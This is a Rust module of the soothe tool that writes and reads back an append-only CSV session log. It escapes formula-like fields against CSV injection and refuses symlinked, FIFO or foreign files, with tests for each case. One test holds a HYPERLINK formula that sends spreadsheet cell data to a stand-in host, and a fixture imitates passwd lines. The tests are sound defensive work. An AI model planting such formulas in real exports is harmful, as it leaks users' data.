//! The session log: one CSV line per `soothe play`, however it ended, in
//! `$XDG_STATE_HOME/soothe/log.csv` (by default
//! `~/.local/state/soothe/log.csv`). When, which session (variant,
//! options, brief, voice, language) and where it started, how far it got
//! and how long it was heard; nothing more: no streaks, no scores, no
//! reminders.
//!
//! Lines are only ever added: the file is opened to append, and each line
//! is one write, so that an earlier line is never touched. Only a file
//! that is a soothe log (its first line is [`HEADER`], or the header of
//! the old columns) is added to, and
//! through a symbolic link only an existing one: anything else is left
//! alone. A field a spreadsheet would take for a formula (it begins with
//! `=`, `+`, `-`, `@`, a tab or a carriage return) is written after a
//! single quote, as OWASP advises against CSV injection, and read back as
//! the user wrote it.
//!
//! The log is read back as a stream ([`records`]): however large it is,
//! only a record at a time is held, and only a regular file is read.

use std::fs::File;
use std::io::{self, Read, Seek, SeekFrom, Write};
use std::path::{Path, PathBuf};

use soothe_core::status::Ending;

mod read;
pub mod table;

pub use read::{records, Record, Records, MAX_RECORD};

/// The log's name in soothe's state folder.
pub const FILE_NAME: &str = "log.csv";

/// The first line of the file: the columns.
pub const HEADER: &str = if cfg!(unix) { HEADERS[0] } else { HEADERS[1] };

/// The first lines soothe writes, where the time is local (Unix) and
/// where it is UTC: a log that begins with either is soothe's.
const HEADERS: [&str; 2] = [
    "date,time,script,variant,options,brief,from,voice,language,how far,heard",
    "date,time (UTC),script,variant,options,brief,from,voice,language,how far,heard",
];

/// The first lines of a log begun before it said where a session started,
/// whether it was brief and its language: still soothe's, read as it is,
/// and added to after a line of the current [`HEADER`] (see [`append_to`]).
const OLD_HEADERS: [&str; 2] = [
    "date,time,script,variant,options,voice,how far,heard",
    "date,time (UTC),script,variant,options,voice,how far,heard",
];

/// Where each field is in a session read back ([`Record::Session`]), a
/// line of the old columns included.
pub mod column {
    pub const DATE: usize = 0;
    pub const TIME: usize = 1;
    pub const SCRIPT: usize = 2;
    pub const VARIANT: usize = 3;
    pub const OPTIONS: usize = 4;
    /// `yes` or `no`; empty in a line of the old columns.
    pub const BRIEF: usize = 5;
    /// The step it started at; empty from the first (or not said, in a
    /// line of the old columns).
    pub const FROM: usize = 6;
    pub const VOICE: usize = 7;
    /// `en`; empty in a line of the old columns.
    pub const LANGUAGE: usize = 8;
    pub const HOW_FAR: usize = 9;
    pub const HEARD: usize = 10;
    /// How many there are.
    pub const COUNT: usize = 11;
    /// Where a line of the old columns has each of the current ones.
    pub const OLD: [Option<usize>; COUNT] = [
        Some(0),
        Some(1),
        Some(2),
        Some(3),
        Some(4),
        None,
        None,
        Some(5),
        None,
        Some(6),
        Some(7),
    ];
    /// How many a line of the old columns has.
    pub const OLD_COUNT: usize = 8;
}

/// What the script column says of the built-in session.
pub const BUILTIN: &str = "built-in";

/// One session, as the log keeps it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Entry {
    /// `YYYY-MM-DD`.
    pub date: String,
    /// `HH:MM`.
    pub time: String,
    /// The script's path, or [`BUILTIN`].
    pub script: String,
    pub variant: String,
    pub options: Vec<String>,
    /// `--brief`: the short cues.
    pub brief: bool,
    /// `--from STEP`: the step it started at (`None`: the first).
    pub from: Option<String>,
    pub voice: String,
    /// The language it was spoken in, as a BCP 47 tag (`en`).
    pub language: String,
    /// How it ended, and where.
    pub ending: Ending,
    /// How long it was heard, pauses and skipped parts left out, in
    /// whole seconds.
    pub heard_seconds: u64,
}

/// Where the log is; `None` without a home folder.
pub fn path() -> Option<PathBuf> {
    crate::places::state().map(|dir| dir.join(FILE_NAME))
}

impl Entry {
    /// The CSV line, without its line end.
    pub fn line(&self) -> String {
        [
            self.date.as_str(),
            &self.time,
            &self.script,
            &self.variant,
            &self.options.join(" "),
            if self.brief { "yes" } else { "no" },
            self.from.as_deref().unwrap_or_default(),
            &self.voice,
            &self.language,
            &self.ending.to_string(),
            &soothe_core::clock::clock(self.heard_seconds, 1),
        ]
        .iter()
        .map(|field| csv_field(field))
        .collect::<Vec<_>>()
        .join(",")
    }
}

/// What a spreadsheet takes a field beginning with for a formula (OWASP's
/// list, and the ASVS's NUL), and the single quote that neutralises them.
const FORMULA_STARTS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\0'];
const NEUTRAL: char = '\'';

/// A field as CSV: after a single quote when a spreadsheet would take it
/// for a formula (or it begins with a single quote itself, so that reading
/// it back is never in doubt); quoted when it holds a comma, a quote or a
/// line end.
fn csv_field(text: &str) -> String {
    let text = if text.starts_with(FORMULA_STARTS) || text.starts_with(NEUTRAL) {
        format!("{NEUTRAL}{text}")
    } else {
        text.to_string()
    };
    if text.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", text.replace('"', "\"\""))
    } else {
        text
    }
}

/// A field read back as the user wrote it: without the quote
/// [`csv_field`] put before it.
fn as_written(field: String) -> String {
    match field.strip_prefix(NEUTRAL) {
        Some(rest) => rest.to_string(),
        None => field,
    }
}

/// Adds `entry` to the log at `path`, creating the folder and the file
/// (with its header) when needed.
///
/// Only a soothe log is added to: a file whose first line is not soothe's
/// header, or that is not a regular file, is left alone and the error says
/// why; through a symbolic link, the file it points to must already be a
/// soothe log (nothing is created or begun through a link). A log begun
/// with the old columns is added to as any other, after a line of the
/// current header, once: the lines before it stay as they were, and a
/// spreadsheet finds each line under the columns it has.
pub fn append_to(path: &Path, entry: &Entry) -> io::Result<()> {
    if let Some(dir) = path.parent() {
        std::fs::create_dir_all(dir)?;
    }
    let (mut file, linked) = open_to_append(path)?;
    let metadata = file.metadata()?;
    if let Some(kind) = soothe_core::error::not_a_file(&metadata) {
        return Err(left_alone(format!("it is {kind}, not a session log")));
    }
    let mut text = String::new();
    let len = metadata.len();
    if len == 0 && !linked {
        text.push_str(HEADER);
        text.push('\n');
    } else {
        let Some(old) = begins_with_header(&mut file)? else {
            return Err(left_alone(
                "it is not a session log of soothe's (its first line is not soothe's header)"
                    .into(),
            ));
        };
        // A last line cut short (a full disk, a crash) gets its end, so
        // that this line does not join it.
        let mut last = [0u8];
        file.seek(SeekFrom::Start(len - 1))?;
        file.read_exact(&mut last)?;
        if last[0] != b'\n' {
            text.push('\n');
        }
        if old {
            file.seek(SeekFrom::Start(0))?;
            if !read::in_current_columns(io::BufReader::new(&mut file))? {
                text.push_str(HEADER);
                text.push('\n');
            }
        }
    }
    text.push_str(&entry.line());
    text.push('\n');
    // One write: the file is opened to append, so it lands at the end.
    file.write_all(text.as_bytes())?;
    Ok(())
}

/// Why the log was not written to.
fn left_alone(why: String) -> io::Error {
    io::Error::other(format!("{why}, so it was left alone"))
}

/// Opens the log to append, creating it unless the path is a symbolic
/// link; and whether it is one. A pipe is opened without waiting for a
/// reader (and then refused by the caller).
fn open_to_append(path: &Path) -> io::Result<(File, bool)> {
    let mut options = std::fs::OpenOptions::new();
    options.read(true).append(true);
    #[cfg(unix)]
    {
        use std::os::unix::fs::OpenOptionsExt;
        options.custom_flags(libc::O_NONBLOCK);
        let mut own = options.clone();
        own.create(true)
            .custom_flags(libc::O_NONBLOCK | libc::O_NOFOLLOW);
        match own.open(path) {
            Ok(file) => return Ok((file, false)),
            Err(err) if !is_link(path) => return Err(err),
            Err(_) => {}
        }
    }
    #[cfg(not(unix))]
    if !is_link(path) {
        return Ok((options.create(true).open(path)?, false));
    }
    match options.open(path) {
        Ok(file) => Ok((file, true)),
        Err(err) if err.kind() == io::ErrorKind::NotFound => Err(left_alone(
            "it is a symbolic link to a file that is not there".into(),
        )),
        Err(err) => Err(err),
    }
}

fn is_link(path: &Path) -> bool {
    std::fs::symlink_metadata(path).is_ok_and(|m| m.file_type().is_symlink())
}

/// Whether the file begins with a header soothe writes, on a line of its
/// own: `Some(true)` for one of the old columns, `None` for none.
fn begins_with_header(file: &mut File) -> io::Result<Option<bool>> {
    let longest = HEADERS.iter().map(|h| h.len()).max().unwrap_or(0);
    let mut start = Vec::with_capacity(longest + 2);
    file.seek(SeekFrom::Start(0))?;
    Read::by_ref(file)
        .take(longest as u64 + 2)
        .read_to_end(&mut start)?;
    let begins = |header: &&str| {
        start
            .strip_prefix(header.as_bytes())
            .is_some_and(|rest| rest.starts_with(b"\n") || rest.starts_with(b"\r\n"))
    };
    Ok(if HEADERS.iter().any(begins) {
        Some(false)
    } else {
        OLD_HEADERS.iter().any(begins).then_some(true)
    })
}

/// Opens the log at `path` to read it, refusing (with an error of kind
/// `InvalidInput` saying what it is) anything but a regular file: a pipe
/// would be waited on for ever, a device read until memory runs out. A
/// pipe is opened without waiting for a writer.
pub fn open_to_read(path: &Path) -> io::Result<File> {
    let mut options = std::fs::OpenOptions::new();
    options.read(true);
    #[cfg(unix)]
    {
        use std::os::unix::fs::OpenOptionsExt;
        options.custom_flags(libc::O_NONBLOCK);
    }
    let file = options.open(path)?;
    if let Some(kind) = soothe_core::error::not_a_file(&file.metadata()?) {
        return Err(io::Error::new(
            io::ErrorKind::InvalidInput,
            format!("it is {kind}, not an ordinary file"),
        ));
    }
    Ok(file)
}

/// The date and time now, as the log writes them: local time where the
/// system says what it is (Unix), else UTC (and the header says so).
pub fn now() -> (String, String) {
    let seconds = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map_or(0, |d| d.as_secs());
    let (year, month, day, hour, minute) = local(seconds).unwrap_or_else(|| utc(seconds));
    (
        format!("{year:04}-{month:02}-{day:02}"),
        format!("{hour:02}:{minute:02}"),
    )
}

/// Local time through the C library, which knows the time zone.
#[cfg(unix)]
fn local(seconds: u64) -> Option<(i64, u32, u32, u32, u32)> {
    let time = libc::time_t::try_from(seconds).ok()?;
    // SAFETY: `tm` is plain data that localtime_r fills in; both pointers
    // are valid for the call, and localtime_r is the thread-safe form.
    let tm = unsafe {
        let mut tm: libc::tm = std::mem::zeroed();
        if libc::localtime_r(&time, &mut tm).is_null() {
            return None;
        }
        tm
    };
    Some((
        i64::from(tm.tm_year) + 1900,
        u32::try_from(tm.tm_mon + 1).ok()?,
        u32::try_from(tm.tm_mday).ok()?,
        u32::try_from(tm.tm_hour).ok()?,
        u32::try_from(tm.tm_min).ok()?,
    ))
}

#[cfg(not(unix))]
fn local(_seconds: u64) -> Option<(i64, u32, u32, u32, u32)> {
    None
}

/// UTC from seconds since 1970 (the civil calendar, by days).
fn utc(seconds: u64) -> (i64, u32, u32, u32, u32) {
    let days = (seconds / 86_400) as i64;
    let of_day = seconds % 86_400;
    // Howard Hinnant's days-to-civil.
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z.rem_euclid(146_097);
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let day = (doy - (153 * mp + 2) / 5 + 1) as u32;
    let month = if mp < 10 { mp + 3 } else { mp - 9 } as u32;
    let year = yoe + era * 400 + i64::from(month <= 2);
    (
        year,
        month,
        day,
        (of_day / 3600) as u32,
        (of_day / 60 % 60) as u32,
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn entry(ending: Ending) -> Entry {
        Entry {
            date: "2026-11-26".into(),
            time: "21:04".into(),
            script: "/home/sam/my, session.ron".into(),
            variant: "relaxing".into(),
            options: vec!["colic".into(), "newborn".into()],
            brief: false,
            from: None,
            voice: "mum".into(),
            language: "en".into(),
            ending,
            heard_seconds: 14 * 60 + 32,
        }
    }

    /// The sessions of a log's text, as read back.
    fn sessions(text: &str) -> Vec<Vec<String>> {
        records(text.as_bytes())
            .map(|record| match record.unwrap() {
                Record::Session { fields, .. } => fields,
                odd => panic!("{odd:?} in {text:?}"),
            })
            .collect()
    }

    #[test]
    fn a_line_quotes_what_needs_it_and_reads_back() {
        let line = entry(Ending::BabysDone("tummy".into())).line();
        assert_eq!(
            line,
            "2026-11-26,21:04,\"/home/sam/my, session.ron\",relaxing,colic newborn,no,,mum,en,baby's done at tummy,14:32"
        );
        let fields = &sessions(&format!("{HEADER}\n{line}\n"))[0];
        assert_eq!(fields[column::SCRIPT], "/home/sam/my, session.ron");
        assert_eq!(fields[column::HOW_FAR], "baby's done at tummy");
    }

    #[test]
    fn a_script_path_with_a_line_end_and_quotes_is_one_session_read_back_whole() {
        let mut session = entry(Ending::Stopped("legs".into()));
        session.script = "/home/sam/two\nlines \"and quotes\".ron".into();
        let line = session.line();
        assert_eq!(
            line,
            "2026-11-26,21:04,\"/home/sam/two\nlines \"\"and quotes\"\".ron\",relaxing,colic newborn,no,,mum,en,stopped at legs,14:32"
        );
        let read = sessions(&format!("{HEADER}\n{line}\n{line}\n"));
        assert_eq!(read.len(), 2);
        assert_eq!(read[1][column::SCRIPT], session.script);
    }

    #[test]
    fn fields_beginning_with_equals_plus_minus_or_at_are_neutralised_and_read_back_as_written() {
        let mut session = entry(Ending::Finished);
        session.script = "=HYPERLINK(\"http://x.example/?\"&A1,\"see\")".into();
        session.variant = "+1".into();
        session.options = vec!["-cmd".into(), "colic".into()];
        session.voice = "@mum".into();
        let line = session.line();
        assert_eq!(
            line,
            "2026-11-26,21:04,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"see\"\")\",'+1,'-cmd colic,no,,'@mum,en,finished,14:32"
        );
        // Tabs, carriage returns and a quote of the user's own too.
        for (voice, written) in [
            ("\tmum", "'\tmum"),
            ("\rmum", "\"'\rmum\""),
            ("'mum'", "''mum'"),
            ("mum-2", "mum-2"),
        ] {
            session.voice = voice.into();
            assert!(
                session.line().contains(&format!(",{written},")),
                "{voice:?}"
            );
            assert_eq!(
                sessions(&format!("{HEADER}\n{}\n", session.line()))[0][column::VOICE],
                voice
            );
        }
        session.voice = "@mum".into();
        let read = &sessions(&format!("{HEADER}\n{line}\n"))[0];
        assert_eq!(read[column::SCRIPT], session.script);
        assert_eq!(read[column::VARIANT], "+1");
        assert_eq!(read[column::OPTIONS], "-cmd colic");
        assert_eq!(read[column::VOICE], "@mum");
    }

    /// A file that is not a log, as a passwd file is.
    const FOREIGN: &str = "root:x:0:0:root:/root:/bin/bash\nsam:x:1000:1000::/home/sam:/bin/sh\n";

    fn refusal(path: &Path) -> String {
        append_to(path, &entry(Ending::Finished))
            .unwrap_err()
            .to_string()
    }

    #[test]
    fn a_passwd_file_at_the_logs_path_is_left_alone() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("log.csv");
        std::fs::write(&path, FOREIGN).unwrap();
        assert_eq!(
            refusal(&path),
            "it is not a session log of soothe's (its first line is not soothe's header), so it was left alone"
        );
        assert_eq!(std::fs::read_to_string(&path).unwrap(), FOREIGN);
    }

    #[cfg(unix)]
    #[test]
    fn a_symlink_to_a_passwd_file_is_left_alone() {
        let dir = tempfile::tempdir().unwrap();
        let passwd = dir.path().join("passwd");
        std::fs::write(&passwd, FOREIGN).unwrap();
        let path = dir.path().join("log.csv");
        std::os::unix::fs::symlink(&passwd, &path).unwrap();
        assert_eq!(
            refusal(&path),
            "it is not a session log of soothe's (its first line is not soothe's header), so it was left alone"
        );
        assert_eq!(std::fs::read_to_string(&passwd).unwrap(), FOREIGN);
    }

    #[cfg(unix)]
    #[test]
    fn a_symlink_to_an_empty_file_or_to_nothing_is_left_alone() {
        let dir = tempfile::tempdir().unwrap();
        let empty = dir.path().join("empty");
        std::fs::write(&empty, "").unwrap();
        let path = dir.path().join("log.csv");
        std::os::unix::fs::symlink(&empty, &path).unwrap();
        assert_eq!(
            refusal(&path),
            "it is not a session log of soothe's (its first line is not soothe's header), so it was left alone"
        );
        assert_eq!(std::fs::read_to_string(&empty).unwrap(), "");

        let nothing = dir.path().join("nothing");
        let dangling = dir.path().join("dangling.csv");
        std::os::unix::fs::symlink(&nothing, &dangling).unwrap();
        assert_eq!(
            refusal(&dangling),
            "it is a symbolic link to a file that is not there, so it was left alone"
        );
        assert!(!nothing.exists());
    }

    #[cfg(unix)]
    #[test]
    fn a_symlink_to_a_soothe_log_is_added_to() {
        let dir = tempfile::tempdir().unwrap();
        let log = dir.path().join("synced/log.csv");
        append_to(&log, &entry(Ending::Finished)).unwrap();
        let path = dir.path().join("log.csv");
        std::os::unix::fs::symlink(&log, &path).unwrap();
        append_to(&path, &entry(Ending::Stopped("legs".into()))).unwrap();
        let read = sessions(&std::fs::read_to_string(&log).unwrap());
        assert_eq!(read.len(), 2);
        assert_eq!(read[1][column::HOW_FAR], "stopped at legs");
    }

    #[cfg(unix)]
    #[test]
    fn a_fifo_as_the_log_is_left_alone_without_waiting() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("log.csv");
        let name = std::ffi::CString::new(path.as_os_str().as_encoded_bytes()).unwrap();
        // SAFETY: a valid C string; mkfifo only reads it.
        assert_eq!(unsafe { libc::mkfifo(name.as_ptr(), 0o600) }, 0);
        assert_eq!(
            refusal(&path),
            "it is a pipe (FIFO), not a session log, so it was left alone"
        );
        assert_eq!(
            open_to_read(&path).unwrap_err().to_string(),
            "it is a pipe (FIFO), not an ordinary file"
        );
    }

    #[test]
    fn an_emptied_log_is_begun_again_with_its_header() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("log.csv");
        std::fs::write(&path, "").unwrap();
        append_to(&path, &entry(Ending::Finished)).unwrap();
        let text = std::fs::read_to_string(&path).unwrap();
        assert_eq!(
            text,
            format!("{HEADER}\n{}\n", entry(Ending::Finished).line())
        );
    }

    #[test]
    fn appending_keeps_every_earlier_line_and_mends_a_cut_one() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("state/soothe/log.csv");
        append_to(&path, &entry(Ending::Finished)).unwrap();
        // A line cut short by a full disk.
        let mut file = std::fs::OpenOptions::new()
            .append(true)
            .open(&path)
            .unwrap();
        file.write_all(b"2026-11-27,20:58,built-in").unwrap();
        append_to(&path, &entry(Ending::Stopped("legs".into()))).unwrap();
        let text = std::fs::read_to_string(&path).unwrap();
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines.len(), 4, "{text}");
        assert_eq!(lines[0], HEADER);
        assert!(lines[1].ends_with(",finished,14:32"), "{text}");
        assert_eq!(lines[2], "2026-11-27,20:58,built-in");
        assert!(lines[3].ends_with(",stopped at legs,14:32"), "{text}");
    }

    #[test]
    fn a_play_from_close_added_to_a_log_of_the_old_columns_comes_after_the_current_header_once() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("log.csv");
        let old = format!(
            "{}\n2026-11-26,21:04,built-in,relaxing,colic,mum,finished,14:32\n",
            OLD_HEADERS[0]
        );
        std::fs::write(&path, &old).unwrap();
        let close = Entry {
            from: Some("close".into()),
            brief: true,
            heard_seconds: 14,
            ..entry(Ending::Finished)
        };
        append_to(&path, &close).unwrap();
        append_to(&path, &entry(Ending::Stopped("legs".into()))).unwrap();
        assert_eq!(
            std::fs::read_to_string(&path).unwrap(),
            format!(
                "{old}{HEADER}\n\
                 2026-11-26,21:04,\"/home/sam/my, session.ron\",relaxing,colic newborn,yes,close,mum,en,finished,00:14\n\
                 2026-11-26,21:04,\"/home/sam/my, session.ron\",relaxing,colic newborn,no,,mum,en,stopped at legs,14:32\n"
            )
        );
        let read = sessions(&std::fs::read_to_string(&path).unwrap());
        assert_eq!(read.len(), 3);
        assert_eq!(read[0][column::VOICE], "mum");
        assert_eq!(read[0][column::FROM], "");
        assert_eq!(read[1][column::FROM], "close");
        assert_eq!(read[1][column::BRIEF], "yes");
        assert_eq!(read[1][column::LANGUAGE], "en");
    }

    #[test]
    fn utc_dates_follow_the_calendar() {
        assert_eq!(utc(0), (1970, 1, 1, 0, 0));
        // 2024-02-29 23:59 UTC, a leap day.
        assert_eq!(utc(1_709_251_140), (2024, 2, 29, 23, 59));
        assert_eq!(utc(1_709_251_200), (2024, 3, 1, 0, 0));
    }
}
